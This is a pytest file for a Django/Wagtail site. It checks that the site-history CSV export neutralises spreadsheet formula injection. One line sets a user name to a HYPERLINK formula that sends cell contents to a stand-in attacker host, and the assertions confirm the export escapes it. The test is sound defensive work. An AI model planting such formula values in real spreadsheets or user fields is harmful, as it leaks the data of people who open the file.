"""Wagtail's own spreadsheet exports go through ``core.exports.cell_neutralise`` too (``cms/apps.py``)."""

from __future__ import annotations

import csv
import io

import pytest
from django_otp.oath import TOTP
from django_otp.plugins.otp_totp.models import TOTPDevice
from wagtail.log_actions import log

from core.users.tests.factories import PASSWORD

pytestmark = pytest.mark.django_db


def _sign_in_with_code(client, staff) -> None:
    device = TOTPDevice.objects.get(user=staff)
    token = str(TOTP(device.bin_key, step=device.step, t0=device.t0, digits=device.digits).token()).zfill(6)
    response = client.post(
        "/admin/login/?next=/admin/",
        {"username": staff.email, "password": PASSWORD, "otp_device": device.persistent_id, "otp_token": token},
    )
    assert response.status_code == 302


def test_the_site_history_csv_names_a_hostile_person_as_text(client, staff, learner):
    hostile = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
    learner.name = hostile
    learner.save(update_fields=["name"])
    staff.name = "@Sara"
    staff.save(update_fields=["name"])
    log(instance=learner, action="wagtail.edit", user=staff)
    _sign_in_with_code(client, staff)

    response = client.get("/cms/reports/site-history/?export=csv")

    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert "'@Sara" in cells and any(cell.startswith("'=HYPERLINK") for cell in cells), cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
